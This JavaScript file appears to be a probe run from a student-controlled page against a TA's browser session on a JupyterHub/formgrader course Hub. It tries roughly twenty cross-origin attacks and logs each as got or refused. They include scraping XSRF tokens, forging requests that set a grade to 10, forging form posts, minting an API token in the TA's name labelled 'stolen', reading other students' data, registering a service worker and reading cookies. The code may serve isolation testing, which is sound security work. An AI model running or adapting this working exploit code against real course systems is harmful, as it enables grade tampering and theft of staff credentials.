// What a page does that a student's server shows to a TA. Each attempt returns what it got, or throws.
// `hub` is the Hub's address, `grade` the id of a grade, `victim` the TA, `neighbour` another student's server.
async function attack({ hub, grade, victim, neighbour, toss }) {
  const grader = `${hub}/services/formgrader/formgrader`;
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const ask = async (url, options = {}) => {
    const answer = await fetch(url, { credentials: "include", ...options });
    if (!answer.ok) throw new Error(`${answer.status}`);
    return await answer.text();
  };
  const put = (headers) =>
    ask(`${grader}/api/grade/${grade}`, { method: "PUT", headers, body: JSON.stringify({ manual_score: 10 }) });
  const seen = (name) => document.cookie.split("; ").find((cookie) => cookie.startsWith(name)) ?? "";
  const inside = async (open) => {
    for (let tries = 0; tries < 20; tries++) {
      await wait(100);
      const page = open(); // null, or an error, where the other page is of another origin
      if (!page) throw new Error("it is of another origin");
      if (page.body?.innerText && page.readyState === "complete") return page.documentElement.outerHTML;
    }
    throw new Error("nothing was shown");
  };
  const frame = (url) => {
    const made = document.body.appendChild(document.createElement("iframe"));
    made.src = url;
    return made;
  };
  const openedPage = async (url) => {
    const opened = window.open(url);
    try {
      return await inside(() => opened.document);
    } finally {
      opened.close();
    }
  };
  const token = async (page) => /xsrf(?:_token)?(?:="|: ")([^"]+)"/.exec(await openedPage(page))[1];
  const form = async (action, fields) => {
    const target = frame("about:blank");
    target.name = `target-${action.length}`;
    const made = document.body.appendChild(document.createElement("form"));
    Object.assign(made, { method: "POST", action, target: target.name });
    for (const [name, value] of Object.entries(fields)) {
      made.appendChild(Object.assign(document.createElement("input"), { name, value }));
    }
    made.submit();
    return await inside(() => target.contentDocument);
  };

  const attempts = {
    "read students' names": () => ask(`${grader}/api/students`),
    "read grades": () => ask(`${grader}/api/grades?submission_id=1`),
    "read without asking for leave": async () => {
      const answer = await fetch(`${grader}/api/students`, { credentials: "include", mode: "no-cors" });
      return (await answer.text()) || Promise.reject(new Error("an answer without a word"));
    },
    "read the form token of the formgrader": () => token(`${grader}/gradebook`),
    "change a grade with the page's token": async () => put({ "X-XSRFToken": await token(`${grader}/gradebook`) }),
    "change a grade without a token": () => put({}),
    "change a grade with a cookie of its own": () => {
      document.cookie = `_xsrf=tossed; path=/services/formgrader/; ${toss}`;
      return put({ "X-XSRFToken": "tossed" });
    },
    "change a grade by a simple request": () =>
      ask(`${grader}/api/grade/${grade}?_xsrf=tossed`, { method: "POST", body: "{}" }),
    "start the judge with the page's token": async () => {
      const headers = { "X-XSRFToken": await token(`${grader}/gradebook`) };
      return ask(`${grader}/api/assignment/tensor/autograde`, { method: "POST", headers });
    },
    "start the judge by a form": () => form(`${hub}/services/formgrader/formgrader/api/assignment/tensor/autograde`, { _xsrf: "tossed" }),
    "act on the home page by a form": () => form(`${hub}/services/home/regrades/1`, { text: "yes", form_token: "0" }),
    "read the home page": () => ask(`${hub}/services/home/class`),
    "read the semester": () => ask(`${hub}/services/semester/api/v1/people`),
    "ask the Hub who is here": () => ask(`${hub}/hub/api/user`),
    "list the Hub's people": () => ask(`${hub}/hub/api/users`),
    "make a token in the victim's name": async () =>
      ask(`${hub}/hub/api/users/${victim}/tokens`, {
        method: "POST",
        headers: { "X-XSRFToken": await token(`${hub}/hub/token`), "Content-Type": "application/json" },
        body: JSON.stringify({ note: "stolen" }),
      }),
    "read another student's server": () => ask(`${neighbour}/api/contents`),
    "look into a frame": () => inside(() => frame(`${hub}/hub/home`).contentDocument),
    "look into a window": () => openedPage(`${grader}/gradebook`),
    "stand between browser and Hub": async () => {
      const scope = `${hub}/services/`;
      return (await navigator.serviceWorker.register("worker.js", { scope })).scope;
    },
    "read what the Hub's pages keep": () => localStorage.getItem("kept") ?? Promise.reject(new Error("nothing")),
    "read the Hub's cookies": () => seen("_xsrf") || seen("kept") || Promise.reject(new Error("none")),
  };
  const got = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      got[name] = `got ${await attempt()}`.slice(0, 4000);
    } catch (error) {
      got[name] = `refused: ${error.message}`;
    }
  }
  return got;
}
